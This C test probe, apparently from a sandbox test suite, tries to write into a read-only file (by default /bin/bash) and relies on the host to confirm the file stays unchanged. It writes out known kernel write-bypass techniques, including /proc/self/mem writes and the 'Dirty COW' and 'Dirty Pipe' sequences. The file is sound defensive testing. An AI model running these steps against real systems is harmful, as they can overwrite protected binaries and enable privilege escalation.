/* Writing to a file that may only be read, past the overlay: usage: pages FILE. Nothing of it may change the file (the host compares). */
#include "probe.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/uio.h>

int main(int count, char **arguments) {
  int file = open(count > 1 ? arguments[1] : "/bin/bash", O_RDONLY), pipes[2];
  off_t offset = 1;
  char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
  TRY(mprotect(page, 4096, PROT_READ | PROT_WRITE), "mprotect of a shared mapping");
  int memory = open("/proc/self/mem", O_RDWR);
  TRY(pwrite(memory, "hostile", 7, (off_t)(size_t)page), "write to /proc/self/mem");
  char *own = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  TRY(pwrite(memory, "hostile", 7, (off_t)(size_t)own), "write to a private mapping by /proc/self/mem"); /* "Dirty COW": a copy of its own */
  TRY(madvise(own, 4096, MADV_DONTNEED), "drop it");
  /* "Dirty Pipe": a page of the file in a pipe, whose flags are left from what was there before. */
  if (pipe(pipes) == 0) {
    static char fill[65536];
    TRY(write(pipes[1], fill, sizeof fill), "fill the pipe");
    TRY(read(pipes[0], fill, sizeof fill), "empty it");
    TRY(splice(file, &offset, pipes[1], NULL, 1, 0), "splice a page");
    TRY(write(pipes[1], "hostile", 7), "write after it");
  }
  char self[32];
  snprintf(self, sizeof self, "/proc/self/fd/%d", file);
  TRY(open(self, O_WRONLY | O_APPEND), "open its descriptor for writing");
}
